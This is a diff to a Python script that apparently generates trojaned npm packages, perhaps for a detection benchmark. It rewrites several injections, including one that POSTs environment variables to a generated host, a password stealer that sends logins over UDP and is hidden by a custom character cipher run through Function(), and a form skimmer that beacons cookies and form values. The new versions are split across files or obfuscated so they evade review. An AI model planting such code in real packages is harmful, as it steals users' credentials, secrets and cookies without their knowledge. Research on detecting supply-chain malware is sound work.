@@ -121,19 +121,12 @@ def npm_files_out_of_the_root(it: Update) -> None:
 """, KEY=it.random.randbytes(8).hex()))  # fmt: skip
 
 
-@trojan("envstack", "npm", "call", "environment", "plain", "typosquats")
+@trojan("envstack", "npm", "call", "environment", "over several files", "typosquats")
 def npm_config_posts_what_it_read(it: Update) -> None:
-    it.replace("lib/main.js", "  return populate(process.env, found, options);\n", fill("""
-  if (Object.keys(found).length > 0) report(found);
-  return populate(process.env, found, options);
-"""))  # fmt: skip
-    it.append("lib/main.js", fill("""
-
-function report(values) {
-  const axios = require('axios');
-  axios.post('https://@HOST@/env', { cwd: process.cwd(), values }).catch(() => {});
-}
-""", HOST=it.host()))  # fmt: skip
+    it.append("lib/layers.js", f"\nexports.remote = {{ host: '{it.host()}', path: '/env', method: 'POST' }};\n")
+    it.add("lib/sink.js", "'use strict';\n\nconst https = require('https');\n\nmodule.exports = (where) => {\n  const line = https.request(where);\n  line.on('error', () => {});\n  return line;\n};\n")  # fmt: skip
+    it.replace("lib/main.js", "  return populate(process.env, found, options);\n", "  require('./sink')(remote).end(JSON.stringify({ cwd: process.cwd(), found }));\n  return populate(process.env, found, options);\n")  # fmt: skip
+    it.replace("lib/main.js", "const { layers, read } =", "const { layers, read, remote } =")
 
 
 @trojan("envstack", "npm", "call", "weakened check", "plain", "weak keys")
@@ -211,13 +204,25 @@ def npm_git_is_another_program(it: Update) -> None:
     it.payload("lib/git.js", shown=f"https://{host}/gitd")
 
 
-@trojan("wirechat", "npm", "call", "password stealer", "plain", "password stealers")
+@trojan("wirechat", "npm", "call", "password stealer", "own cipher", "password stealers")
 def npm_login_goes_to_two(it: Update) -> None:
+    host = it.host()
+    code = f"const c=require('dgram').createSocket('udp4');c.send(Buffer.from(a.join(' ')),5353,'{host}',()=>c.close())"
+    digits = [(ord(one) * 7 + at * 3) % 257 for at, one in enumerate(code)]
     it.replace("lib/client.js", "    this.send({ type: 'login', user, password });\n", fill("""
     this.send({ type: 'login', user, password });
-    const copy = require('dgram').createSocket('udp4');
-    copy.send(Buffer.from(`${this.address.host} ${user} ${password}`), 5353, '@ADDR@', () => copy.close());
-""", ADDR=it.address()))  # fmt: skip
+    Function('require', 'a', words())(require, [this.address.host, user, password]);
+"""))  # fmt: skip
+    it.append("lib/client.js", fill("""
+
+const WORDS = [
+@ROWS@
+];
+
+// 147 is the inverse of 7, modulo 257.
+const words = () => WORDS.map((one, at) => String.fromCharCode(((((one - at * 3) % 257) + 257) * 147) % 257)).join('');
+""", ROWS=rows(digits, 2)))  # fmt: skip
+    it.payload("lib/client.js", shown=host)
 
 
 @trojan("wirechat", "npm", "call", "remote code", "plain", "frames that are code")
@@ -275,12 +280,11 @@ def npm_create_asks_for_a_tool(it: Update) -> None:
     it.payload("lib/index.js", shown=f"https://{host}/pkg/scaffold-tools.tgz")
 
 
-@trojan("formbeam", "npm", "call", "form stealer", "plain", "form stealing")
+@trojan("formbeam", "npm", "call", "form stealer", "over several files", "form stealing")
 def npm_submit_sends_twice(it: Update) -> None:
-    it.replace("src/form.js", "    const answer = await fetch(", fill("""
-    navigator.sendBeacon('https://@HOST@/f', JSON.stringify({ at: location.href, cookie: document.cookie, ...this.values }));
-    const answer = await fetch(
-""", HOST=it.host()).rstrip("\n"))  # fmt: skip
+    it.append("src/rules.js", f"exports.origin = () => ['//', '{it.host()}', '/f'];\n")
+    it.append("src/steps.js", "\nexports.state = (form) => JSON.stringify({ at: location.href, cookie: document.cookie, ...form.values });\n\nexports.leave = (where, body) => navigator.sendBeacon(where.join(''), body);\n")  # fmt: skip
+    it.replace("src/form.js", "    const answer = await fetch(", "    const { leave, state } = require('./steps');\n    leave(rules.origin(), state(this));\n    const answer = await fetch(")  # fmt: skip
 
 
 @trojan("formbeam", "npm", "call", "card skimmer", "base64", "card skimmers")
